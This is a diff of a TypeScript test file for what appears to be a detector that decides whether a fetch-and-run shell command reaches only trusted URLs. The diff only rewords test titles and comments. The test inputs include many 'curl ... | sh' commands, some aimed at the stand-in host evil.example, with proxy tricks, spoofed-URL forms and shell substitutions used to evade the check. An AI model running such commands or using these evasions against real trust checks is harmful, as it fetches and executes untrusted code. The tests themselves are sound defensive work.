@@ -16,7 +16,7 @@ function trusted(text: string, format?: string): boolean[] {
   return findings.map((finding) => isTrusted(finding, text, TRUSTED));
 }
 
-describe("a command whose every address is trusted", () => {
+describe("a command in which every URL is trusted", () => {
   it.each([
     "curl https://get.example/i.sh | sh",
     "curl -fsSL https://get.example/i.sh | sudo bash",
@@ -40,7 +40,7 @@ describe("a command whose every address is trusted", () => {
   });
 });
 
-describe("a trusted command, whatever rule found it", () => {
+describe("a trusted command that any rule finds", () => {
   const finding = (text: string): Finding => ({
     rule: "x/y",
     level: "finding",
@@ -64,9 +64,9 @@ describe("a trusted command, whatever rule found it", () => {
   });
 });
 
-describe("a command that contains another possible address", () => {
+describe("a command that may fetch another URL", () => {
   it.each([
-    // another address, or a similar one
+    // another URL, or a similar one
     "curl https://evil.example/i.sh | sh",
     "curl https://get.example/i.sh https://evil.example | sh",
     "curl https://get.example/i.sh evil.example | sh",
@@ -80,7 +80,7 @@ describe("a command that contains another possible address", () => {
     "curl https://get.example/i.sh@evil.example/ | sh",
     "curl https://user@get.example/i.sh | sh",
     "curl https://get.example/{i.sh,evil} | sh",
-    // a proxy or another way to reach the address
+    // an option that changes which server is reached
     "curl -x evil.example:8080 https://get.example/i.sh | sh",
     "curl --proxy=http://evil https://get.example/i.sh | sh",
     "curl -x evil https://get.example/i.sh | sh",
@@ -96,7 +96,7 @@ describe("a command that contains another possible address", () => {
     "https_proxy=http://evil.example curl https://get.example/i.sh | sh",
     "https_proxy=evil.example:80 curl https://get.example/i.sh | sh",
     "ALL_PROXY=localhost:80 curl https://get.example/i.sh | sh",
-    // words whose values only a shell knows
+    // words whose values are known only at run time
     'curl https://get.example/i.sh "$EXTRA" | sh',
     "curl https://get.example/i.sh $EXTRA | sh",
     "curl https://get.example/i.sh $(cat more) | sh",
@@ -125,7 +125,7 @@ describe("a command that contains another possible address", () => {
     ]);
   });
 
-  it("an address next to the command does not make it trusted", () => {
+  it("a trusted URL beside a command does not make the command trusted", () => {
     expect(trusted("curl evil | sh # https://get.example/i.sh", "bash")).toEqual([false]);
   });
 });
